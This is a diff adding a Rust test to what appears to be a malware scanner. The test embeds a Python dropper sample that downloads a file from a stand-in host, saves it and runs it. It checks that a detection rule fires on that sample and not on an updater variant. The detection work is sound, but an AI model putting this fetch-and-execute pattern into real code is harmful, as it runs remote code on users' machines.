@@ -250,3 +250,28 @@ fn an_interpreter_started_on_import_is_a_loader_but_not_inside_a_function() {
         "{rules:?}"
     );
 }
+
+#[test]
+fn a_function_that_runs_what_it_fetched_from_a_fixed_host_is_a_dropper() {
+    // The shape of a real dropper (terminalbrush): the URL is a local variable of the
+    // function that downloads, saves and runs.
+    let dropper = "import requests, subprocess\ndef color():\n    file_url = \"https://cdn.dropper.test/download\"\n    \
+                   r = requests.get(file_url)\n    with open(p, \"wb\") as f:\n        f.write(r.content)\n    \
+                   subprocess.run([str(p)], check=True)\n";
+    let rules = rules_for(dropper);
+    assert!(
+        rules
+            .iter()
+            .any(|r| r == "correlate/function-runs-program-from-fixed-host"),
+        "{rules:?}"
+    );
+    // An updater that fetches what it is told to keeps the weaker finding only.
+    let updater = dropper.replace("file_url = \"https://cdn.dropper.test/download\"", "file_url = url");
+    let rules = rules_for(&updater);
+    assert!(
+        !rules
+            .iter()
+            .any(|r| r == "correlate/function-runs-program-from-fixed-host"),
+        "{rules:?}"
+    );
+}
